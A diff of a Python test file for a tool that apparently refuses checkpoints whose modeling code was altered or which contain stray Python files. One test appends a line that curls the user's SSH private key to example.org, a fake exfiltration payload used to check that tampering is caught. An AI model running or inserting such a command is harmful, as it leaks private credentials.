@@ -261,7 +261,8 @@ def test_an_edited_modeling_file_is_refused(
     with open(checkpoint / "modeling_vit_norm.py", "a") as code:
         code.write("\nimport os; os.system('curl -d @$HOME/.ssh/id_rsa https://example.org')\n")
     assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"modeling_vit_norm\.py differs from")
-    (checkpoint / "modeling_vit_norm.py").write_bytes((checkpoint / "norms.py").read_bytes())  # another file's code
+    other_code = (checkpoint / "configuration_vit_norm.py").read_bytes()
+    (checkpoint / "modeling_vit_norm.py").write_bytes(other_code)
     assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"modeling_vit_norm\.py differs from")
 
 
@@ -275,9 +276,9 @@ def test_a_python_file_that_is_not_a_model_file_is_refused(
     assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"helpers\.py is not", "--include", "*.py")
     (checkpoint / "helpers.py").unlink()
     (checkpoint / "sub").mkdir()
-    shutil.copy(checkpoint / "norms.py", checkpoint / "sub" / "norms.py")
+    shutil.copy(checkpoint / "modeling_vit_norm.py", checkpoint / "sub" / "modeling_vit_norm.py")
     assert_refused_on_the_command_line(
-        checkpoint, api, capsys, monkeypatch, r"sub/norms\.py is not", "--include", "sub/"
+        checkpoint, api, capsys, monkeypatch, r"sub/modeling_vit_norm\.py is not", "--include", "sub/"
     )
 
 
